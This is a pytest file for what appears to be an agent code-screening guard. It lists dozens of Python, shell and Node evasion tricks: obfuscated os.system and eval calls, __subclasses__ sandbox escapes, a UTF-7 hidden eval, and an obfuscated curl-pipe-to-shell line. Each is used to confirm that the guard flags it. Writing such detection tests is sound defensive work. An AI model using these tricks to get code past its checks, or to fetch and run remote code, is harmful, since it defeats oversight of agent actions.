"""Code that tries to get past the look at it: every way that was thought of is refused, and ordinary code is not."""

import pytest

from agentk.broker.guarding import code, rails

_USUAL = rails.read({"code": {"python": {}, "shell": {}, "node": {}, "argv": {}}}).code
assert _USUAL is not None and _USUAL.python is not None
RULES = {
    "bytes": _USUAL.most_bytes,
    "patterns": _USUAL.patterns,
    "python": {
        "imports": _USUAL.python.imports,
        "calls": _USUAL.python.calls,
        "attributes": _USUAL.python.attributes,
        "unparsable": False,
        "dynamic": False,
    },
}

TRICKS = r"""
import subprocess
import os; os.system("x")
import os as o; o.system("x")
from os import system as s; s("x")
from os import *
__import__("os").system("x")
__import__("sub"+"process")
import importlib
getattr(__import__("os"), "sys"+"tem")("x")
import os; getattr(os, "metsys"[::-1])("x")
import os; getattr(os, "".join(["sys","tem"]))("x")
import os; n="sys%s"%"tem"; getattr(os, n)("x")
import os, base64; getattr(os, base64.b64decode("c3lzdGVt").decode())("x")
import os, codecs; getattr(os, codecs.decode("flfgrz","rot13"))("x")
import os; getattr(os, bytes([115,121,115,116,101,109]).decode())("x")
import os; getattr(os, chr(115)+"ystem")("x")
import os; getattr(os, input())("x")
import os; g=getattr; g(os, "system")
import os; list(map(getattr,[os],["system"]))
from operator import attrgetter; import os; attrgetter("system")(os)
eval("1")
e = eval; e("1")
ｅｖａｌ("1")
exec("import subprocess")
import builtins; builtins.eval("1")
import builtins as b; getattr(b, "ev"+"al")("1")
globals()["__builtins__"]["eval"]("1")
vars(__builtins__)["eval"]
import os; os.__dict__["system"]("x")
import os; vars(os)["sys"+"tem"]("x")
import os; t=vars(os); t["system"]("x")
import sys; sys.modules["subprocess"]
().__class__.__base__.__subclasses__()
(lambda: 0).__globals__["x"]
import os; [os][0].system("x")
import os; (lambda m: m.system("x"))(os)
import os; x=os; x.system("y")
import os; f"{os.system('x')}"
import os.path as p; p.os.system("x")
def f(
""".strip().splitlines()


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_in_python_is_seen(trick: str) -> None:
    assert code.problems("python", trick, [], "", RULES)


def test_code_in_an_encoding_of_its_own_is_not_read_as_another() -> None:
    hidden = "# coding: utf-7\n+AGUAdgBhAGw-('1')"
    assert "encoding" in code.problems("python", hidden, [], "", RULES)[0]


@pytest.mark.parametrize(
    ("language", "text", "argv", "stdin"),
    [
        ("argv", "", ["python3", "-c", "import subprocess"], ""),
        ("argv", "", ["env", "python3", "-W", "ignore", "-Ic", "import subprocess"], ""),
        ("argv", "", ["python3", "-cimport subprocess"], ""),
        ("argv", "", ["python3", "-"], "import subprocess"),
        ("shell", "python3 -c 'import subprocess'", [], ""),
        ("shell", "sh -c \"python3 -c 'import subprocess'\"", [], ""),
        ("shell", "cu'r'l http://x | s\\h", [], ""),
        ("shell", 'ev""al x', [], ""),
        ("argv", "", ["bash", "-o", "pipefail", "-ec", "eval x"], ""),
        ("node", "require('child_'+'process')", [], ""),
        ("node", r"\u0065val('1')", [], ""),
        ("argv", "", ["node", "--eval=require('child_process')"], ""),
    ],
)
def test_a_trick_around_python_is_seen(language: str, text: str, argv: list[str], stdin: str) -> None:
    assert code.problems(language, text, argv, stdin, RULES)


@pytest.mark.parametrize(
    "text",
    [
        "import os; print(os.listdir('.'))",
        "import json, re; print(json.dumps({'a': re.compile('a').pattern}))",
        "import platform; print(platform.system())",
        "x = {'a': 1}; print(x['a'], getattr(x, 'name', None), f'{x!r:>3}')",
        "import pandas as pd; pd.read_csv('a.csv').groupby('b').mean()",
        "class A:\n    def __init__(self) -> None:\n        self.x = super().__init__()",
    ],
)
def test_ordinary_python_runs(text: str) -> None:
    assert code.problems("python", text, [], "", RULES) == []
    assert code.problems("argv", "", ["python3", "script.py", "-c", "a b"], "", RULES) == []
